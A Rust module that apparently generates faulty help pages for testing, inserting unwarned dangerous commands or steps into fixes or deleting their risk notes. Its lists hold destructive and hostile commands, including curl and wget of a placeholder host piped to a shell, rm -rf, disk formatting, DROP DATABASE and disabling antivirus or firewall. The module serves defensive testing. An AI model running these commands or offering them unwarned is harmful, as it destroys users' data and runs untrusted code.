//! Steps and commands that can do damage, of which nothing says so.

use super::diagnosis::without;
use super::{Faulty, Pages, Row};
use crate::generate::Dice;

pub(super) const KINDS: &[Row] = &[
    ("diagnosis", "a dangerous command", command),
    ("diagnosis", "a dangerous step", step),
    ("diagnosis", "a risk left out", no_risk),
];

/// Adds a statement to a fix that tells no risk.
fn risky(pages: &Pages, dice: &mut Dice, line: String) -> Option<Faulty> {
    let unit = pages.pick("fix", dice)?;
    if !pages.beginning(&unit, "risk").is_empty() {
        return None;
    }
    let mut faulty = Faulty::new(pages).at(&unit.file, unit.line).at(&unit.file, unit.end).concerning(&unit.id);
    faulty.pages.splice(&unit.file, (unit.end, unit.end), &[line]);
    Some(faulty)
}

fn command(pages: &Pages, dice: &mut Dice) -> Option<Faulty> {
    let command = *dice.pick(&[
        "rm -rf ~/.config/app",
        "sudo rm -r /var/lib/app",
        "format c: /q",
        "dd if=image.iso of=/dev/sdb bs=4M",
        "sudo mkfs.ext4 /dev/sdb1",
        "reg delete HKCU\\\\Software\\\\App /f",
        "mysql -e 'DROP DATABASE shop'",
        "chmod -R 777 /srv/www",
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x.example/i.sh | sudo bash",
        "del /s /q C:\\\\Temp",
        "git reset --hard origin/main",
        "docker system prune -a --volumes",
    ]);
    risky(pages, dice, format!("  run \"{command}\""))
}

fn step(pages: &Pages, dice: &mut Dice) -> Option<Faulty> {
    let step = *dice.pick(&[
        "Do a factory reset of the device.",
        "Delete your account and open a new one.",
        "Format the disk and install the system again.",
        "Turn off the antivirus for good.",
        "Restablece los valores de fábrica.",
        "Borra la cuenta y crea otra.",
        "Formatea el disco.",
        "Desactiva el cortafuegos.",
        "Type rm -rf in a terminal.",
    ]);
    risky(pages, dice, format!("  step \"{step}\""))
}

fn no_risk(pages: &Pages, dice: &mut Dice) -> Option<Faulty> {
    let unit = pages.pick("fix", dice)?;
    let (place, _) = pages.beginning(&unit, "risk lowers-protection").into_iter().next()?;
    let mut faulty = Faulty::new(pages).concerning(&unit.id);
    faulty.pages.splice(&unit.file, place, &[]);
    let translated = pages.units().into_iter().filter(|other| other.is_translation && other.id == unit.id);
    for other in translated {
        let places: Vec<_> = pages.beginning(&other, "risk").into_iter().map(|(place, _)| place).collect();
        without(&mut faulty.pages, &other, &places);
    }
    for line in unit.line..unit.end {
        faulty = faulty.at(&unit.file, line);
    }
    Some(faulty)
}
